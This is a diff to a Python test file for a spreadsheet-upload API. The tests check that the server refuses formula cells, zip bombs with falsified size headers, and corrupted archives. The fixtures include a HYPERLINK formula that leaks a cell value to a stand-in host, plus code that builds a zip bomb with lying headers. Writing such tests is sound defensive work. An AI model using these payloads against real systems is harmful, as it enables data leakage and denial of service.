@@ -6,6 +6,7 @@ from __future__ import annotations
 import io
 import os
 import re
+import struct
 import zipfile
 from datetime import datetime
 from decimal import Decimal
@@ -186,18 +187,46 @@ def test_it_saves_drafts_prefills_the_next_template_and_accepts_it_again(api, tr
     assert saved(tree.n1) == {"ORIGINAL": "3", "PEAK": "1.200"}
 
 
-def test_it_takes_a_formulas_cached_result_but_not_a_formula_error(api, tree, catalog):
+def test_it_refuses_a_formula_cell_naming_it_never_reading_it_as_blank(api, tree, catalog, report):
+    # A stored figure that a formula without a cached result (what openpyxl and scripts save) must not erase.
+    report(tree.n1, catalog.weekly, PERIOD, {"POSTS": 7, "ORIGINAL": 2}, status="draft")
     data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
-    ok = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E8", '<c r="E8"><f>100+23</f><v>123</v></c>'))
-    assert post_api(api, ok).status_code == 200
-    assert saved(tree.n1) == {"POSTS": "123"}
+    no_cache = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E9", '<c r="E9"><f>1+1</f></c>'))
+    r = post_api(api, no_cache)
+    assert r.status_code == 400
+    assert r.json()["extra"]["errors"] == [
+        {"sheet": "15061", "cell": "E9", "message": "ORIGINAL: " + xlsx.formula_message()}
+    ]
+    assert "B7" not in xlsx.formula_message() and "công thức" in xlsx.formula_message()
+    # Even with a cached result (Excel's own save), the cell is named and refused: type the value.
+    cached = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E8", '<c r="E8"><f>100+23</f><v>123</v></c>'))
+    r = post_api(api, cached)
+    assert r.status_code == 400 and r.json()["extra"]["errors"][0]["cell"] == "E8"
+    assert saved(tree.n1) == {"POSTS": "7", "ORIGINAL": "2"}
+
+
+def test_it_refuses_a_formula_in_a_narrative_cell_and_a_formula_error(api, tree, catalog):
     data = api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content
-    bad = edit_sheet_xml(data, lambda x: set_cell_xml(x, "E9", '<c r="E9" t="e"><f>1/0</f><v>#DIV/0!</v></c>'))
+    wb = load_workbook(io.BytesIO(data))
+    ws = wb.worksheets[0]
+    narrative_cell = next(
+        f"C{r + 1}" for r in range(1, ws.max_row + 1) if ws.cell(r, 2).value and ws.cell(r, 1).value == "I"
+    )
+    bad = edit_sheet_xml(
+        data,
+        lambda x: set_cell_xml(
+            set_cell_xml(x, "E9", '<c r="E9" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
+            narrative_cell,
+            f'<c r="{narrative_cell}" t="str"><f>HYPERLINK("http://x.example/?"&amp;E8)</f><v>x</v></c>',
+        ),
+    )
     r = post_api(api, bad)
     assert r.status_code == 400
     assert r.json()["extra"]["errors"] == [
-        {"sheet": "15061", "cell": "E9", "message": "Ô chứa lỗi công thức (the cell holds a formula error)"}
+        {"sheet": "15061", "cell": "E9", "message": "Ô chứa lỗi công thức (the cell holds a formula error)"},
+        {"sheet": "15061", "cell": narrative_cell, "message": xlsx.formula_message()},
     ]
+    assert not Submission.objects.exists()
 
 
 # --- Bad cells ---------------------------------------------------------------------------------------
@@ -299,6 +328,70 @@ def test_it_refuses_a_zip_bomb_from_the_declared_sizes(api, tree, catalog):
     assert len(bomb.getvalue()) < xlsx.MAX_BYTES
     r = post_api(api, bomb.getvalue())
     assert r.status_code == 413 and "zip bomb" in r.json()["message"]
+    assert not Submission.objects.exists()
+
+
+def lie_about_size(data: bytes, member: str, declared: int) -> bytes:
+    """The archive with `member`'s uncompressed size rewritten to `declared` in its local header and in
+    the central directory: what a zip bomb does to pass a check of the declared sizes."""
+    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
+    out = bytearray(data)
+    struct.pack_into("<L", out, info.header_offset + 22, declared)
+    name = member.encode()
+    position = out.find(b"PK\x01\x02")
+    while position != -1:
+        length = struct.unpack_from("<H", out, position + 28)[0]
+        if bytes(out[position + 46 : position + 46 + length]) == name:
+            struct.pack_into("<L", out, position + 24, declared)
+            break
+        position = out.find(b"PK\x01\x02", position + 4)
+    assert position != -1
+    assert zipfile.ZipFile(io.BytesIO(bytes(out))).getinfo(member).file_size == declared
+    return bytes(out)
+
+
+def test_it_measures_each_member_while_reading_not_from_its_lying_header(api, tree, catalog, monkeypatch):
+    monkeypatch.setattr(xlsx, "MAX_UNCOMPRESSED", 8 * 1024 * 1024)
+    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
+    src = zipfile.ZipFile(io.BytesIO(data))
+    sheet = src.read("xl/worksheets/sheet1.xml")
+    # The sheet grows to 40 MB of blank cells inside a file of well under 1 MB, and says it is 14 KB.
+    huge = sheet.replace(b"</sheetData>", b"<row r=\"9999\">" + b"<c/>" * (10 * 1024 * 1024) + b"</row></sheetData>")
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
+        for item in src.infolist():
+            z.writestr(item.filename, huge if item.filename == "xl/worksheets/sheet1.xml" else src.read(item))
+    bomb = lie_about_size(packed.getvalue(), "xl/worksheets/sheet1.xml", 14 * 1024)
+    assert len(bomb) < 1024 * 1024
+    r = post_api(api, bomb)
+    assert r.status_code == 413, r.content[:300]
+    assert "zip bomb" in r.json()["message"] and "hơn 8,0 MB" in r.json()["message"]
+    assert not Submission.objects.exists()
+
+
+def test_it_refuses_a_member_whose_declared_size_lies_even_under_the_limit(api, tree, catalog):
+    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
+    r = post_api(api, lie_about_size(data, "xl/worksheets/sheet1.xml", 100))
+    assert r.status_code == 400 and r.json()["message"].startswith("Tệp hỏng")
+    assert "xl/worksheets/sheet1.xml" in r.json()["message"]
+
+
+def test_it_refuses_a_crc_corrupted_or_bit_flipped_archive_with_a_message(api, tree, catalog):
+    data = fill(api.get(f"/api/v1/templates/?unit=15061&form=W35&period={PERIOD}").content, {"POSTS": 1})
+    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
+    bad_crc = bytearray(data)
+    struct.pack_into("<L", bad_crc, info.header_offset + 14, info.CRC ^ 0xFFFF)  # local header only
+    central = bytes(bad_crc).find(struct.pack("<L", info.CRC), info.header_offset + 30 + info.compress_size)
+    struct.pack_into("<L", bad_crc, central, info.CRC ^ 0xFFFF)
+    flipped = bytearray(data)
+    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
+    for i in range(start + 10, start + info.compress_size - 10, 97):
+        flipped[i] ^= 0x55
+    for body in (bytes(bad_crc), bytes(flipped), b"not a zip at all", b"PK\x03\x04" + b"\0" * 500):
+        r = post_api(api, body)
+        assert r.status_code == 400, r.content[:200]
+        assert r.json()["message"].startswith("Tệp hỏng hoặc không phải tệp Excel .xlsx")
+        assert r.json()["extra"]["errors"][0]["message"] == r.json()["message"]
     assert not Submission.objects.exists()
 
 
